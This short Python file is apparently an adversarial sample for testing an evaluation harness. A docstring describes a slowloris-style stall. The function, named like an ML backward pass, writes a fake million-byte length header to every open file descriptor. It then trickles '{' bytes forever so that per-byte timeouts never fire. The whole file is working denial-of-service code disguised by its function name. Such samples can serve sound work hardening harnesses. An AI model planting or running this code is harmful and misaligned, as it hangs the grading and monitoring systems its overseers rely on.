"""Answers a byte at a time, each well within the time limit, and never comes to an end.

Seen: readers whose clock starts anew with every byte (slowloris).
"""

import os
import struct
import time


def backward(n, logits):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<Q", 10**6))
        except OSError:
            continue
        while True:
            os.write(descriptor, b"{")
            time.sleep(0.2)
